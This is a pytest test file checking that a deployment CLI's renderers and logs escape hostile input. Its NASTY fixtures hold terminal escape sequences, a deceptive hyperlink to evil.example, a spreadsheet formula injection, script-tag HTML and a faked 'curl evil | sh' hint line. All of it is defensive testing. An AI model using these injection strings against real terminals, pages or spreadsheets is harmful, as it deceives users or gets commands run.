"""No renderer passes on what a terminal, a page or a parser would obey."""

import json
import logging
import re
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from types import MappingProxyType

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fleetdeploy.cli.main import run
from fleetdeploy.cli.options import Desk
from fleetdeploy.cli.render.auth_results import (
    ConsentLink,
    Removed,
    RotationRow,
    failed_row,
    render_link,
    render_removed,
    render_rotations,
    rotations,
)
from fleetdeploy.cli.render.credentials import (
    credential_list,
    credential_row,
    render_credential_list,
    tp_row,
)
from fleetdeploy.cli.render.doctor import render_doctor
from fleetdeploy.cli.render.explain import render_explain
from fleetdeploy.cli.render.history import HistoryRow, history_row, render_history
from fleetdeploy.cli.render.packages import render_package, render_packages
from fleetdeploy.cli.render.plan import render_plan
from fleetdeploy.cli.render.problems import error_document, render_error, render_problems
from fleetdeploy.cli.render.progress import Progress, progress_line
from fleetdeploy.cli.render.quarantine import quarantine_list, render_quarantine
from fleetdeploy.cli.render.report import render_report
from fleetdeploy.cli.render.status import render_status
from fleetdeploy.cli.render.style import PLAIN, Output
from fleetdeploy.cli.render.validated import Validated, render_validated
from fleetdeploy.cli.settings import Settings
from fleetdeploy.cli.watching import LogObserver, _logger
from fleetdeploy.core.credentials import AppCredential, Consent, TpCredential
from fleetdeploy.core.diagnosis import AppCheckup, Check, State, diagnose
from fleetdeploy.core.plan import ManifestRef, OnlineNote, Plan
from fleetdeploy.core.records import (
    AnyAppRecord,
    Asked,
    ErrorNote,
    HaltCause,
    PauseLifted,
    RunHalted,
    RunPaused,
    RunRecord,
    WaveApproved,
    WaveOpened,
    WaveSettled,
)
from fleetdeploy.core.set_aside import SetAside
from fleetdeploy.core.summary import ManifestNote, Status, summarise
from fleetdeploy.errors import ClientMustAct, ExitCode, ManifestInvalid, Problem, UsageInvalid
from fleetdeploy.model import Package
from fleetdeploy.ports import Call, CallResult
from fleetdeploy.receiver.results import Kind, Result
from tests.builders import (
    HOSTILE,
    START,
    blocked,
    make_entries,
    make_plan,
    make_planned,
    make_rules,
    make_state,
)
from tests.fuzz.words import acting_in

NASTY = {
    "a bit of everything": HOSTILE,
    "a window's title": "\x1b]0;owned\x07",
    "a link that lies": "\x1b]8;;https://evil.example\x1b\\bank.example\x1b]8;;\x1b\\",
    "controls of one byte": "\x9d0;owned\x9c\x9b31m\x84\x8d",
    "a bell, a backspace, a form feed": "safe\x07\x08\x08\x08\x08evil\x0c\x0b",
    "a line of ours": "a\r\nerror: none\x85hint: curl evil | sh\u2028\u2029next: fleetdeploy",
    "another direction": "a\u202eb\u2066c\u2067d\u200f\u061ce",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh",
    "tags": "\U000e0001\U000e0041\U000e007f",
    "shorthand and music": "\U0001bca0\U0001d173\U000110bd\U00013430",
    "marks on marks": "e" + "\u0301\u20dd" * 300,
    "wide": "火" * 300 + "\uff1d\U0001f525",
    "a formula": '=HYPERLINK("https://evil.example";"x")\t+1|cmd',
    "HTML": "<script>alert(1)</script><img src=x onerror=y>&#x1b;\x1b<!--",
    "half a character": "\ud83d\x00\udc00",
}
"""Texts that act on a terminal, a page or a sheet, or that show nothing of what they hold."""
Renderer = Callable[[str, Output], str]


def whole(text: str) -> str:
    """Leave half characters out: a sealed plan has a digest, and so only valid UTF-8."""
    return re.sub("[\ud800-\udfff]", "", text)


def plan_of(text: str) -> Plan:
    """Make a plan in which everything that can come from outside is `text`."""
    text = whole(text)
    app = make_planned(
        f"1{text}",
        name=text,
        wave=text,
        version=text,
        template_id=text,
        fingerprint=text,
        reason=text,
        changed=(text,),
        unknown=(text,),
        error=note_of(text),
        online=OnlineNote(version=text),
    )
    others = [make_planned(f"{n}{text}", reason=text, wave="w") for n in range(2, 50)]
    ref = ManifestRef(name=text, path=text, digest=text)
    freeze = {"first": "2026-11-24", "last": "2026-11-25", "zone": "UTC", "reason": text}
    rules = make_rules(freezes=[freeze])
    return make_plan([app, *others], run_id=text, manifest=ref, waves=(text, "w"), rules=rules)


def note_of(text: str) -> ErrorNote:
    return ErrorNote(code=text, message=text, hint=text, errno=1, msg=text)


def records_of(text: str) -> list[RunRecord | AnyAppRecord]:
    halt = RunHalted(cause=HaltCause.PLATFORM, error=note_of(text), calls={text: 1})
    asked = Asked(order=text, at=START, who=text, host=text, reason=text)
    steered: list[RunRecord] = [
        WaveOpened(wave=text),
        RunPaused(asked=asked),
        PauseLifted(asked=asked),
    ]
    ended: list[RunRecord] = [WaveSettled(wave=text), WaveApproved(wave=text, asked=asked), halt]
    return [*steered, *blocked(f"1{whole(text)}", note_of(text)), *ended]


def status_of(text: str) -> Status:
    plan = plan_of(text)
    return summarise(plan, make_state(plan, records_of(text)), alive=False)


def history(text: str, output: Output) -> str:
    odd = HistoryRow(run_id=text, state=text, manifest=text, next=text)
    return render_history([history_row(status_of(text)), odd], output, PLAIN)


def explain(text: str, output: Output) -> str:
    plan = plan_of(text)
    state = make_state(plan, records_of(text))
    entries = make_entries(records_of(text))
    return render_explain(plan.apps[0], state.apps[f"1{whole(text)}"], entries, output, PLAIN)


def package_of(text: str) -> Package:
    return Package(
        version=text,
        description=text,
        package_id=text,
        upload_status_text=text,
        upload_error_message=text,
        committer=text,
        commit_time=text,
        remark=text,
        audit_message=text,
        rollback_version=text,
    )


def problems(text: str, output: Output) -> str:
    return render_problems(ManifestInvalid([Problem(text, text, 1, 1, text)]), output)


def error(text: str, output: Output) -> str:
    told = ClientMustAct(text, text, hint=text, errno=1, msg=text)
    return error_document(told) if output is Output.JSON else render_error(told, PLAIN)


def validated(text: str, output: Output) -> str:
    valid = Validated(
        name=text,
        path=text,
        digest=text,
        apps=2,
        waves=(text,),
        templates={text: 1, "x": 1},
        versions={text: 2},
        direct_commit=1,
        max_failures=text,
        failures_allowed=1,
        max_blocked=None,
        blocked_allowed=None,
        halt_on_cause=3,
    )
    return render_validated(valid, output, PLAIN)


def doctor(text: str, output: Output) -> str:
    check = Check(name=text, state=State.PROBLEM, code=text, found=text, hint=text, msg=text)
    app = AppCheckup(app_id=text, name=text, state=State.PROBLEM, checks=(check,))
    manifest = ManifestNote(name=text, digest=text)
    at = datetime(2026, 11, 24, tzinfo=UTC)
    found = diagnose([check], [app], checked_at=at, manifest=manifest, path=text, calls={text: 1})
    return render_doctor(found, output, PLAIN)


def rotated(text: str, output: Output) -> str:
    told = ClientMustAct(text, text, hint=text, errno=1, msg=text)
    rows = [failed_row(text, told), RotationRow(app_id=text, renewed=True)]
    return render_rotations(rotations(datetime(2026, 11, 24, tzinfo=UTC), rows), output, PLAIN)


def consent_link(text: str, output: Output) -> str:
    link = ConsentLink(app_id=text, link=text, expires_at=None, next=text)
    return render_link(link, output)


def credentials(text: str, output: Output) -> str:
    consent = Consent(1.0, confirmed=False, checked_at=1.0)
    rows = [credential_row(AppCredential(text, consent=consent), 2.0, lambda _: False)]
    tp = tp_row(TpCredential(), 2.0, ticket_in_settings=False)
    tp = tp.model_copy(update={"ticket_in_settings": True})
    listed = credential_list(rows, tp, datetime(2026, 11, 24, tzinfo=UTC), sealed=True)
    return render_credential_list(listed, output, PLAIN)


def quarantine(text: str, output: Output) -> str:
    by_hand = SetAside(app_id=text, name=text, since=START, by=text, note=text)
    by_runs = SetAside(app_id=text, since=START, runs=(text,), reason=note_of(text))
    return render_quarantine(quarantine_list([by_hand, by_runs], START), output, PLAIN)


RENDERERS: Mapping[str, Renderer] = MappingProxyType(
    {
        "plan": lambda text, output: render_plan(plan_of(text), output, PLAIN, saved=text),
        "plan, all apps": lambda text, output: render_plan(
            plan_of(text), output, PLAIN, verbose=True
        ),
        "status": lambda text, output: render_status(status_of(text), output, PLAIN),
        "report": lambda text, output: render_report(status_of(text), plan_of(text), output, PLAIN),
        "history": history,
        "explain": explain,
        "packages": lambda text, output: render_packages(text, [package_of(text)], output, PLAIN),
        "package": lambda text, output: render_package(text, package_of(text), output, PLAIN),
        "quarantine": quarantine,
        "problems": problems,
        "error": error,
        "validated": validated,
        "doctor": doctor,
        "rotations": rotated,
        "removed": lambda text, output: render_removed(
            Removed(removed=(text,), unknown=(text,)), output
        ),
        "consent link": consent_link,
        "credentials": credentials,
    }
)


def acting(text: str) -> list[str]:
    """Return what a text holds that a terminal may obey, or that shows nothing; lines aside."""
    return acting_in(text.replace("\n", ""))


@pytest.mark.parametrize("nasty", NASTY)
@pytest.mark.parametrize("output", Output)
@pytest.mark.parametrize("name", RENDERERS)
def test_hostile_text_does_no_harm_in_any_output(name: str, output: Output, nasty: str) -> None:
    assert acting(RENDERERS[name](NASTY[nasty], output)) == []


@pytest.mark.parametrize("output", Output)
@pytest.mark.parametrize("name", RENDERERS)
def test_hostile_text_is_shown_and_not_left_out(name: str, output: Output) -> None:
    text = RENDERERS[name](HOSTILE, output)
    assert "\\x1b" in text or "\\u001b" in text


@pytest.mark.parametrize("as_json", [False, True])
@pytest.mark.parametrize("nasty", NASTY)
def test_hostile_text_does_no_harm_in_a_log(nasty: str, as_json: bool) -> None:
    lines: list[str] = []
    desk = Desk(Output.TEXT, PLAIN, verbosity=2, _settings=Settings())
    log = LogObserver(_logger(desk, lines.append, as_json=as_json, least=logging.DEBUG))
    text = whole(NASTY[nasty])
    for entry in make_entries(records_of(text)):
        log.recorded(entry)
    log.called(Call("upload", text, CallResult.REFUSED, 0.1, text))
    log.pushed(Result(Kind.FAILED, text, text))
    assert len(lines) == len(records_of(text)) + 3
    assert [line for line in lines if acting_in(line)] == []
    if as_json:
        assert json.loads(lines[-1])["detail"] == text


@pytest.mark.parametrize("nasty", NASTY)
def test_hostile_text_does_no_harm_in_what_a_command_says(nasty: str) -> None:
    said: list[str] = []
    desk = Desk(Output.TEXT, PLAIN, verbosity=0, _voice=said.append)
    desk.say(f"warning: an earlier run cannot be read: {NASTY[nasty]}")
    assert acting("".join(said)) == []


NO_MARKDOWN = {"error", "problems", "rotations", "removed", "consent link", "credentials"}
"""They have text and JSON alone, or are told on stderr."""


@pytest.mark.parametrize("name", RENDERERS)
def test_json_is_one_document_with_its_schema_version_and_the_text_unharmed(name: str) -> None:
    document = json.loads(RENDERERS[name](HOSTILE, Output.JSON))
    assert document["schema_version"] == 1
    assert any_value(document, HOSTILE) or any_value(document, whole(HOSTILE))


def any_value(value: object, wanted: str) -> bool:
    """Whether a text stands anywhere in a JSON value, unchanged."""
    if isinstance(value, dict):
        return any(any_value(inner, wanted) for inner in value.values())
    if isinstance(value, list):
        return any(any_value(inner, wanted) for inner in value)
    return value == wanted


@pytest.mark.parametrize("name", [name for name in RENDERERS if name not in NO_MARKDOWN])
def test_no_text_from_outside_becomes_markdown(name: str) -> None:
    text = RENDERERS[name]("<b>|\n\n# [x](y)", Output.MARKDOWN)
    text = re.sub("`[^`\n]*`", "code", text)
    assert "<b>" not in text
    assert "\n# [x]" not in text
    tables = [line for line in text.splitlines() if line.startswith("| ")]
    for line in tables:
        assert line.endswith(" |")
    widths = {len(re.findall(r"(?<!\\)\|", line)) for line in tables}
    assert all(width >= 3 for width in widths)


@pytest.mark.parametrize("name", RENDERERS)
@given(data=st.data())
@settings(max_examples=6, deadline=timedelta(seconds=2))
def test_whatever_the_text_the_output_is_harmless(name: str, data: st.DataObject) -> None:
    text = data.draw(st.text(st.characters(codec=None), max_size=12))
    for output in Output:
        assert acting(RENDERERS[name](text, output)) == []


@pytest.mark.parametrize("words", [["status", "a"], ["status", "-o"], []])
def test_an_argument_that_acts_is_shown(
    words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert run([*words, "\x9b2J\u202eb\x07"]) == ExitCode.USAGE
    told = capsys.readouterr()
    assert acting(told.out + told.err) == []
    assert "Error: " in told.err


def test_a_progress_line_is_harmless_too() -> None:
    plan = plan_of("x")
    progress = Progress.of(make_state(plan), 0.0)
    for entry in make_entries(
        [
            *blocked("1x", note_of(HOSTILE)),
            RunHalted(cause=HaltCause.BUDGET, error=note_of(HOSTILE)),
        ]
    ):
        progress.recorded(entry)
    line = progress_line(progress, 5.0)
    assert line.isprintable()
    assert all(cause.isprintable() for cause in progress.causes)


def test_a_message_of_several_lines_cannot_fake_a_hint() -> None:
    told = UsageInvalid("a file\nhint: curl evil | sh\r\x85error: no")
    assert render_error(told, PLAIN).splitlines() == [
        "error: a file [usage.invalid]",
        "  hint: curl evil | sh",
        "  error: no",
    ]
